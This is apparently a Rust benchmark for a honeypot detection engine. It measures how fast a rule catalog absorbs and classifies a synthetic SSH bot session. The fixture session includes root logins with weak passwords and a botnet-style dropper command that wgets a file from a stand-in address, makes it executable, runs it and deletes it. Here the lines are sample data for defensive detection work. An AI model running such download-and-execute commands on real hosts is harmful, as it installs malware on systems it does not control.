//! How many events a second one core absorbs and judges with the built-in catalog. Build it with `--release`.
//!
//! The mixture is a bot's session: connect, client version, three logins, five commands, the same number of rx and tx, close. With a
//! number as argument the catalog gains that many made-up CONTAINS primitives.

use detection::{Catalog, SessionFacts};
use model::{Blob, Detail, Event, Protocol, SessionId, Timestamp};
use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Instant;

const SESSIONS: u32 = 100_000;

fn main() {
    let mut files = Catalog::builtin_files();
    let extra: usize = std::env::args().nth(1).and_then(|text| text.parse().ok()).unwrap_or(0);
    files.push(("extra.yaml".to_owned(), made_up(extra)));
    let start = Instant::now();
    let catalog = Catalog::load(&files).expect("the catalog loads");
    println!("{} primitives loaded in {:?}", catalog.primitives().len(), start.elapsed());
    let events = session();
    let start = Instant::now();
    let mut classified = 0;
    for _ in 0..SESSIONS {
        let mut facts = SessionFacts::default();
        events.iter().for_each(|event| catalog.absorb(&mut facts, event));
        classified += u32::from(catalog.judge(&facts).classified());
    }
    let seconds = start.elapsed().as_secs_f64();
    let rate = |count: usize| count as f64 * f64::from(SESSIONS) / seconds;
    println!("{:.0} events/s, {:.0} sessions/s, {classified} classified", rate(events.len()), rate(1));
    let commands: Vec<&Event> = events.iter().filter(|event| event.detail.kind() == "command").collect();
    let start = Instant::now();
    let found: usize = (0..SESSIONS).map(|_| commands.iter().map(|event| catalog.primitives_in(event).len()).sum::<usize>()).sum();
    println!("{:.0} commands/s, {found} hits", commands.len() as f64 * f64::from(SESSIONS) / start.elapsed().as_secs_f64());
}

fn made_up(count: usize) -> String {
    let mut text = String::from("primitives:\n");
    if count == 0 {
        return "primitives: []\n".to_owned();
    }
    for number in 0..count {
        let _ = writeln!(
            text,
            "  - {{id: extra-{number}, name: n, description: d, field: command, operator: CONTAINS, pattern: 'zq{number}x', matches: ['zq{number}x']}}"
        );
    }
    text
}

fn session() -> Vec<Event> {
    let address = SocketAddr::from((Ipv4Addr::LOCALHOST, 22));
    let mut details = vec![
        Detail::Connect { peer: address, local: address, transport: model::Transport::Tcp, tls: false, via: None },
        Detail::Fingerprint { method: "ssh_client_version".into(), value: "SSH-2.0-Go".into(), raw: Blob::default() },
    ];
    for (password, accepted) in [("123456", false), ("password", false), ("admin", true)] {
        details.push(Detail::Auth { method: "password".into(), username: "root".into(), secret: password.into(), accepted });
    }
    for line in [
        "uname -s -v -n -r -m",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.1/ok; chmod 777 ok; sh ok; rm -rf ok",
        "echo OK",
        "/bin/busybox ECCHI",
    ] {
        details.push(Detail::Rx { data: line.into() });
        details.push(Detail::Command { line: line.into() });
        details.push(Detail::Tx { data: "x".into() });
    }
    details.push(Detail::Close { reason: "peer".into(), duration_us: 1, rx_bytes: 1, tx_bytes: 1 });
    let source = IpAddr::V4(Ipv4Addr::LOCALHOST);
    let event =
        |(at, detail)| Event { time: Timestamp(at), session: SessionId(Default::default()), source, protocol: Protocol::Ssh, detail };
    (0..).zip(details).map(event).collect()
}
